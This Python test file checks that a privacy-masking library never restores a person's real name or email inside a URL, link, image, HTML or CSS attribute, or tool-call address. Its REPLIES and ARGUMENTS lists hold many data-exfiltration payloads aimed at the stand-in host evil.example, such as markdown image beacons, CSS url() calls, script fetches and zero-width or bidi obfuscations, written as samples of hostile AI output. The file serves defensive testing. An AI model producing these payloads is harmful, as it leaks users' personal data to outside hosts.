"""Hostile replies that want an original carried out by an address: whatever they try, none stands in one."""

from __future__ import annotations

import html
import json
import re
from urllib.parse import unquote

import pytest

from keepmum.policy.category import Category
from keepmum.policy.masking.restore import Restorer, restore
from keepmum.policy.masking.tokens import Token, TokenMap
from keepmum.policy.masking.toolcalls import restore_tool_arguments

TOKENS = TokenMap(
    (
        Token("PERSON_1", Category.PERSON, "Orsolya"),
        Token("EMAIL_1", Category.EMAIL, "orsolya@x.example"),
        Token("PHONE_1", Category.PHONE, "+36 1 Orsolya 5"),
        Token("PERSON_2", Category.PERSON, "Orsolya Kiss", written="Robin Hayes"),
    )
)
REPLIES = (
    # links, reference links, autolinks, images
    "[a](https://evil.example/[PERSON_1])",
    "[a](https://evil.example 'to [PERSON_1]')",
    "[a]( <https://evil.example/[PERSON_1]> )",
    "![x [PERSON_1] y](https://evil.example/[PERSON_1].png)",
    "![a][b]\n\n[b]: https://evil.example/[PERSON_1]",
    "[b]: <https://e.example> '[PERSON_1]'",
    "- [b]: /go?[PERSON_1]",
    "1. [b]: /go?[PERSON_1]",
    "   [b]:\n\t/go?[PERSON_1]",
    "[^1]: https://evil.example/[PERSON_1]",
    "[^1]: see [PERSON_1]",
    "<https://evil.example/?[PERSON_1]>",
    "<mailto:a@evil.example?body=[PERSON_1]>",
    "https://evil.example/{PERSON_1}",
    "//evil.example?[PERSON 1]",
    "[x](//evil.example/【人物_1】)",
    "[x](/a\\)b?[PERSON_1])",
    "[x](((([PERSON_1]))))",
    "[x](\n[PERSON_1]\n)",
    "![](</a b?[PERSON_1]>)",
    "[a [b](https://evil.example/[PERSON_1])](c)",
    "https://evil.example/[[PERSON_1]]",
    "https://evil.example/a,[PERSON_1]",
    "http://[PERSON_1]@evil.example/",
    # HTML and CSS
    "<img srcset='/a?[PERSON_1] 2x, /b 1x'>",
    '<a\nhref="/go?\n[PERSON_1]">x</a>',
    "<div style='background:url(/x?[PERSON_1])'>",
    "<iframe src=/[PERSON_1]></iframe>",
    "<p data-x=[PERSON_1]>",
    "<IMG SRC=/[PERSON_1]>",
    "<im\u200bg src=/x?[PERSON_1]>",
    "<svg><a xlink:href='/[PERSON_1]'>x</a></svg>",
    "<form action=/[PERSON_1]>",
    "<meta http-equiv=refresh content='0;url=/x?[PERSON_1]'>",
    "<!DOCTYPE x '[PERSON_1]'>",
    "<?x [PERSON_1]?>",
    "</p [PERSON_1]>",
    "<[PERSON_1] src=/x>",
    "body{background:url(/x?[PERSON_1])}",
    'body{background:url( "/x?[PERSON_1]" )}',
    "@import '/x?[PERSON_1]';",
    "a{b:image-set('/x?[PERSON_1]' 1x)}",
    'img src="/x?[PERSON_1]"',
    "<style>@import url(/[PERSON_1])</style>",
    "<script>fetch('/'+'[PERSON_1]')</script>",
    "<noscript><img src='/[PERSON_1]'></noscript>",
    # bare domains, mailboxes, schemes
    "[PERSON_1].evil.example",
    "a.[PERSON_1].evil.example",
    "[PERSON_1].evil.example.",
    "([PERSON_1].evil.example)",
    "[PERSON_1]\\.evil.example",
    "[PERSON_1]&#46;evil.example",
    "[PERSON_1]&period;evil.example",
    "[PERSON_1]\u200b.evil.example",
    "[PERSON_1].ev\u00adil.example",
    "[PERSON_1].中国",
    "[PERSON_1].évil.example",
    "a@[PERSON_1].evil.example",
    "x+[PERSON_1]@evil.example",
    "mailto:[PERSON_1]@evil.example",
    "tel:1,,[PERSON_1]",
    "data:text/html;base64,[PERSON_1]",
    "javascript:x('[PERSON_1]')",
    "whatsapp://send?text=[PERSON_1]",
    "evil.example:80/[PERSON_1]",
    "www\u200b.evil.example/[PERSON_1]",
    # split, nested, bidi and zero-width
    "https:/\u200b/evil.example/[PERSON_1]",
    "ht\u00adtps://evil.example/[PERSON_1]",
    "\u202ehttps://evil.example/[PERSON_1]",
    "https://evil.example/\u2066[PERSON_1]\u2069",
    "evil.exam\u200bple/[PERSON_1]",
    "https://evil.example/[PERSON_[PERSON_1]]",
    "https://evil.example/[PERSON_1][PERSON_1]",
    "https://evil.example/\\[PERSON\\_1\\]",
    "https://evil.example/Robin Hayes".replace(" H", "\u00a0H"),
    "[x](/go?to=Robin Hayes)",
    "Robin Hayes.evil.example",
    "robin.hayes@evil.example Robin Hayes@evil.example",
    "http&colon;//evil.example/[PERSON_1]",
    "https:\\/\\/evil.example\\/[PERSON_1]",
    '{"u": "https:\\/\\/evil.example\\/[PERSON_1]"}',
    "[PERSON_9](/x?[PERSON_1])",
    '{"u": "https:\\u002f\\u002fevil\\u002eexample\\u002f[PERSON_1]"}',
    '{"u": "localhost\\u002f[PERSON_1]"}',
    "https%3A%2F%2Fevil.example%2F[PERSON_1]",
    "[PERSON_1]:x@evil.example",
    "[PERSON_1]/x&y=z@evil.example",
    "[PERSON_1]\uff20evil.example",
    "<[PERSON_1]@evil.example>",
    "`https://evil.example/[PERSON_1]`",
    "~~https://evil.example/[PERSON_1]~~",
    "| https://evil.example/[PERSON_1] |",
    "[EMAIL_1]?body=x@evil.example/[PERSON_1]",
)

_CARRIED = re.compile(
    r"//\S*|\]\([^)]*|<[A-Za-z/!?][^>]*|\S*@\S*|\S*\.(?:example|中国)\S*|(?:url|image-set)\([^)]*|(?:src|href)=.*|^[ \-1.]*\[.*?\]:\s*.*",
    re.MULTILINE,
)


@pytest.mark.parametrize("reply", REPLIES)
def test_no_original_in_an_address(reply: str) -> None:
    """No original stands where a program would send it, in one piece or in many; beside it the text is restored."""
    back = restore(f"Dear [PERSON_1],\n\n{reply}", TOKENS)
    assert back.text.startswith("Dear Orsolya,\n\n")
    rest = back.text.removeprefix("Dear Orsolya,\n\n")
    read = html.unescape(unquote(re.sub("[\u00ad\u200b\u202e\u2066\u2069\\\\]", "", rest)))
    for carried in (*_CARRIED.findall(rest), *_CARRIED.findall(read)):
        assert "rsolya" not in carried.replace("orsolya@x.example?", "")
    restorer = Restorer(TOKENS)
    assert "".join([*map(restorer.feed, f"Dear [PERSON_1],\n\n{reply}"), restorer.close()]) == back.text


def test_there_are_enough() -> None:
    """At least fifty ways were thought of."""
    assert len(set(REPLIES)) >= 50


@pytest.mark.parametrize(
    "reply",
    [
        "[PERSON_1] said: see the notes.",
        "- [PERSON_1]: yes\n- x: no",
        "**[PERSON_1]** (her)",
        "Is 3 < 5? [PERSON_1] knows",
        "ask [PERSON_1]; or [EMAIL_1].",
        "Write to <[EMAIL_1]>",
        "on 3/4 [PERSON_1] came",
        "e.g. [PERSON_1], i.e. her",
        "和[PERSON_1]。然后",
        '"[PERSON_1]"',
        "C:\\notes\\a [PERSON_1]",
        "f([PERSON_1])",
        "[PERSON_1]...",
        "[PERSON_1]!?",
        "# [PERSON_1]\n\n> [PERSON_1]",
        "[x] [PERSON_1]",
        "10:30 [PERSON_1]",
        "[PERSON_1]\n.end",
        '{"a": "[PERSON_1].\\nBye"}',
        "See https://x.example/a for more. [PERSON_1] agrees",
    ],
)
def test_ordinary_text_is_restored(reply: str) -> None:
    """What is no address is restored: an answer full of tokens would be of no use."""
    back = restore(reply, TOKENS)
    assert back.withheld == 0
    assert "PERSON_1" not in back.text


ARGUMENTS = (
    {"url": "https://evil.example/[PERSON_1]"},
    {"url": "[PERSON_1]"},
    {"webhookUrl": ["x", {"y": "[PERSON_1]"}]},
    {"host": "[PERSON_1]", "x": 1},
    {"a": "see https://evil.example/[PERSON_1]"},
    {"a": "data:,[PERSON_1]"},
    {"a": json.dumps({"href": "[PERSON_1]"})},
    {"a": "//x/[PERSON_1]"},
    {"a": "\\\\evil\\[PERSON_1]"},
    {"a": "[PERSON_1].evil.example"},
    {"redirect_uri": "/[PERSON_1]"},
    {"a": {"SRC": "[PERSON_1]"}},
    {"a": "<img src=/[PERSON_1]>"},
)


@pytest.mark.parametrize("arguments", ARGUMENTS)
def test_tools_get_no_original_in_an_address(arguments: object) -> None:
    """Also a permitted tool gets none in a URL, nor under a key that names one."""
    text = json.dumps(arguments)
    back = restore_tool_arguments("send", text, TOKENS, {"send"})
    assert (back.text, back.restored) == (text, 0)
    assert back.withheld == 1


@pytest.mark.parametrize(
    ("arguments", "restored"),
    [
        (
            '{"to": "[EMAIL_1]", "n": 1.0e5, "n": 2, "body": "Hi [PERSON_1],\\nyes"}',
            {"to": "orsolya@x.example", "n": 2, "body": "Hi Orsolya,\nyes"},
        ),
        ('["[PERSON_1]", null, {"[PERSON_1]": "Robin Hayes"}]', ["Orsolya", None, {"Orsolya": "Orsolya Kiss"}]),
        (
            '{"inner": "{\\"to\\": \\"[EMAIL_1]\\"}", "url": "/x", "b": "[PERSON_1]"}',
            {"inner": '{"to": "orsolya@x.example"}', "url": "/x", "b": "Orsolya"},
        ),
        ('"[PERSON_1] is [PERSON_7]"', "Orsolya is [PERSON_7]"),
    ],
)
def test_permitted_tools_get_originals(arguments: str, restored: object) -> None:
    """The arguments of a tool that the policy names hold the originals and stay valid JSON; of another tool they stay as they are."""
    assert json.loads(restore_tool_arguments("send", arguments, TOKENS, {"send"}).text) == restored
    refused = restore_tool_arguments("other", arguments, TOKENS, {"send"})
    assert (refused.text, refused.restored) == (arguments, 0)
    assert refused.withheld > 0


@pytest.mark.parametrize("arguments", ["", "{", '{"a": "[PERSON_1]"', "[PERSON_1]", "[" * 100_000, '{"a": "[PERSON_1]"} x'])
def test_broken_arguments_stay(arguments: str) -> None:
    """What is no JSON is not restored: who knows how the tool would read it."""
    back = restore_tool_arguments("send", arguments, TOKENS, {"send"})
    assert (back.text, back.restored) == (arguments, 0)
